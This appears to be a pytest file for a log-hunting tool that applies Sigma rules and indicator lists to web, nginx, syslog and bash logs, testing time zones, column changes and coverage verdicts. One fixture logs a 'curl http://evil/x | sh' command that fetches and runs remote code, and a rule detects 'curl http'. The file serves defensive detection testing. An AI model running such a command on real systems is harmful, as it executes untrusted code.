"""Formats that change on the way, and which logs a Sigma rule is put to."""

from datetime import timedelta

import pytest

from hunting_evidence import hunted, local, put, told, web_log

RULE = "title: r\nname: r\nlevel: high\nlogsource: {source}\ndetection:\n  a:\n{detection}\n  condition: a\n"


def rule(source, detection):
    return RULE.replace("{source}", source).replace("{detection}", detection)


@pytest.mark.parametrize("times", [1, 20_000])
def test_columns_that_change_within_a_w3c_log_are_read_by_the_names_that_hold_there(tmp_path, times):
    first = "#Fields: date time cs-method cs-uri-stem sc-status c-ip\n2020-01-05 10:00:00 GET /one 200 192.0.2.9\n"
    second = "#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status\n"
    second += "2020-01-05 10:00:05 192.0.2.9 GET /two x=1 200\n"
    put(
        tmp_path / "pack", {"r.yml": rule("{category: webserver}", "    cs-uri-stem: [/one, /two]\n    sc-status: 200")}
    )
    put(tmp_path / "ev", {"u_ex200105.log": first * times + second + "#Remark\n" * times})
    (line,) = told(hunted(tmp_path / "ev", tmp_path / "pack"))["rule"]
    assert line["hits"] == times + 1


def test_times_that_nginx_writes_into_json_are_read(tmp_path):
    lines = [
        '{"time_iso8601":"2020-01-05T11:00:00+01:00","remote_addr":"::1","request":"GET /x HTTP/1.1","status":"200"}',
        '{"time_local":"05/Jan/2020:12:00:00 +0100","remote_addr":"::1","request":"GET /x HTTP/1.1","status":"404"}',
    ]
    put(tmp_path / "pack", {"r.yml": rule("{category: webserver}", "    cs-uri-stem: /x")})
    put(tmp_path / "ev", {"access.json": "\n".join(lines) + "\n"})
    findings = told(hunted(tmp_path / "ev", tmp_path / "pack"))["finding"]
    assert [(one["time"], one["time_basis"], one["class"]) for one in findings] == [
        ("2020-01-05T10:00:00Z", "offset", "lead"),
        ("2020-01-05T11:00:00Z", "offset", "attempt"),
    ]


SHELL = 'Jan  5 10:00:00 <local7.notice> ns1 bash[12]: root on /dev/pts/0 shell_command="curl http://evil/x | sh"\n'


@pytest.mark.parametrize(
    ("source", "fires"),
    [
        ("{product: linux, service: bash}", True),
        ("{product: linux}", True),
        ("{product: citrix, category: appliance}", True),
        ("{category: process_creation, product: linux}", True),
        ("{service: made-up}", True),
        ("{product: windows}", False),
        ("{category: webserver}", False),
    ],
)
def test_a_rule_is_put_to_every_log_that_its_source_may_mean(tmp_path, source, fires):
    put(tmp_path / "pack", {"r.yml": rule(source, "    - 'curl http'")})
    put(tmp_path / "ev", {"var/log/bash.log": SHELL})
    assert ("finding" in told(hunted(tmp_path / "ev", tmp_path / "pack"))) is fires


def test_the_offset_of_one_log_tells_the_zone_of_another(tmp_path):
    """CONTRACTS: zone of logs: from the evidence (offsets), else UTC with `time_basis` "assumed"."""
    put(tmp_path / "pack", {"a.txt": "evil.example\n"})
    newer = "<34>1 2020-01-05T10:00:00+01:00 host app 12 ID47 - x\n"
    put(tmp_path / "ev", {"messages": "Jan  5 10:00:00 host app[1]: evil.example here\n", "new.log": newer})
    (finding,) = told(hunted(tmp_path / "ev", tmp_path / "pack"))["finding"]
    assert (finding["time"], finding["time_basis"]) == ("2020-01-05T09:00:00Z", "offset")


def test_a_log_of_several_hosts_names_client_and_host(tmp_path):
    wanted = "    cs-uri-stem: /x\n    c-ip: 192.0.2.9\n    cs-host: www.example.com"
    put(tmp_path / "pack", {"r.yml": rule("{category: webserver}", wanted)})
    line = 'www.example.com:443 192.0.2.9 - - [05/Jan/2020:10:00:00 +0100] "GET /x HTTP/1.1" 200 5 "-" "curl"\n'
    put(tmp_path / "ev", {"other_vhosts_access.log": line * 3})
    assert len(told(hunted(tmp_path / "ev", tmp_path / "pack"))["finding"]) == 3


TURNED = "Jan  8 01:16:00 ns newsyslog[14448]: logfile turned over due to size>100K\n"


@pytest.mark.parametrize(
    ("odd", "answer"),
    [
        ("", "no-signs-covered"),
        (TURNED, "no-signs-covered"),  # a line of the appliance itself
        ("no request at all\n" * 20, "no-signs-covered"),  # one in a hundred
        ("no request at all\n" * 21, "no-signs-partial"),
        ('{"custom": "format, 03:04:05"}\n' * 1500, "no-signs-partial"),
    ],
)
def test_a_log_of_which_too_many_lines_cannot_be_read_is_not_covered_whole(tmp_path, odd, answer):
    put(tmp_path / "p", {"a.txt": "198.51.100.9\n", "pack.yml": "name: p\nneeds: [web-access]\n"})
    ordinary = web_log(local(2019, 12, 24), local(2020, 1, 17), every=timedelta(minutes=17, seconds=16))
    lines = ordinary.splitlines(keepends=True)[:2000]
    log = put(tmp_path / "ev", {"httpaccess.log": "".join([*lines[:1000], odd, *lines[1000:]])})
    found = told(hunted(log, tmp_path / "p"))
    assert found["verdict"][0]["verdict"] == answer
    assert found["coverage"][0]["unparsed"] == (0 if odd == TURNED else odd.count("\n"))
    named = [one["reason"] for one in found.get("skipped", ()) if "their words alone were searched" in one["reason"]]
    assert len(named) == (answer == "no-signs-partial")
